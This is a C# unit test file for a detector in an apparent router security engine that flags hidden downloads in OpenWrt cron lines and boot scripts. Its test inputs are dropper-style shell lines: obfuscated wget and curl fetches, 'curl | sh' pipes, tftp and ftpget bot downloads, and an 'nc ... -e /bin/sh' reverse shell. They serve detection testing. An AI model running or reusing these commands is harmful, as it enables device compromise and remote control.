using FlaxGuard.Engine.Probes.OpenWrt;

namespace FlaxGuard.Engine.Tests.OpenWrt;

/// <summary>
/// Download detection in cron lines and boot scripts sees through the ways droppers hide a download: quoting and
/// concatenation, variables, busybox applets, tftp/ftpget/nc, pipes into a shell and scripts sourced from /tmp.
/// Ordinary commands are not downloads.
/// </summary>
[TestClass]
public sealed class ShellFetchTests
{
    [TestMethod]
    [DataRow("wget http://203.0.113.7/x.sh -O /tmp/x.sh", "203.0.113.7")]
    [DataRow("u=http://203.0.113.7/m; wget $u", "203.0.113.7")]
    [DataRow("u=http://203.0.113.7/m; wget ${u}", "203.0.113.7")]
    [DataRow("\"wg\"\"et\" -q http://Evil.Example:8080/a", "evil.example")]
    [DataRow("'cu'rl -s https://user@198.51.100.2/p | sh", "198.51.100.2")]
    [DataRow("c=wg; ${c}et http://203.0.113.9/", "203.0.113.9")]
    [DataRow("w\\get http://203.0.113.10/", "203.0.113.10")]
    [DataRow("curl|sh", "unknown")]
    [DataRow("busybox wget http://203.0.113.11/b", "203.0.113.11")]
    [DataRow("/usr/bin/uclient-fetch -q -O - https://[2001:db8::5]:443/x", "2001:db8::5")]
    [DataRow("cd /tmp && busybox tftp -g -r mips -l .s 198.51.100.9", "198.51.100.9")]
    [DataRow("ftpget -u anonymous -p x 198.51.100.12 bot bot", "198.51.100.12")]
    [DataRow("nc 198.51.100.13 4444 -e /bin/sh", "198.51.100.13")]
    [DataRow(". /tmp/x.sh", "file:/tmp/x.sh")]
    [DataRow("source /var/run/.a", "file:/var/run/.a")]
    [DataRow("sleep 5; sh /tmp/.s &", "file:/tmp/.s")]
    [DataRow("(sleep 60; /tmp/.s) &", "file:/tmp/.s")]
    [DataRow("x=$(wget -qO- http://203.0.113.14/c)", "203.0.113.14")]
    [DataRow("nohup wget http://203.0.113.15/ >/dev/null 2>&1 &", "203.0.113.15")]
    public void Download_IsFound(string line, string host)
    {
        Assert.AreEqual(host, new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    [DataRow("sleep 70 && touch /etc/banner && reboot")]
    [DataRow("/etc/init.d/dnsmasq restart")]
    [DataRow("echo wget is not run here > /dev/null")]
    [DataRow("logger -t cron \"backup done\"")]
    [DataRow("ls /tmp")]
    [DataRow("")]
    public void OrdinaryCommand_IsNoDownload(string line)
    {
        Assert.IsNull(new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    public void VariablesCarryAcrossLines_OfOneScript()
    {
        var script = "#!/bin/sh\nH=203.0.113.20\nP=/bin/x\n# comment wget http://198.51.100.1/\nT=\"wg\"\nsleep 3\n${T}et http://$H$P\nexit 0\n";
        Assert.AreEqual("203.0.113.20", new ShellFetch().ReadScript(script));
    }

    [TestMethod]
    public void Bounds_HoldForHostileText()
    {
        var fetch = new ShellFetch();
        // Many assignments: only MaxVariables are kept, and nothing grows without bound.
        for (var i = 0; i < 500; i++) fetch.ReadLine($"v{i}=http://203.0.113.{i % 250}/");
        Assert.AreEqual("unknown", fetch.ReadLine("wget $v499"), "the 500th variable was not kept");
        Assert.AreEqual("203.0.113.31", fetch.ReadLine("wget $v31"), "the first 32 were");
        // A variable that refers to itself does not expand forever.
        fetch.Reset();
        fetch.ReadLine("a=$a$a$a$a$a$a$a$a");
        for (var i = 0; i < 20; i++) fetch.ReadLine("a=$a$a$a$a");
        Assert.IsNull(fetch.ReadLine("echo $a"));
        var host = new ShellFetch().ReadLine("wget " + new string('a', 100_000));
        Assert.IsNotNull(host);
        Assert.IsLessThanOrEqualTo(100, host.Length);
    }
}
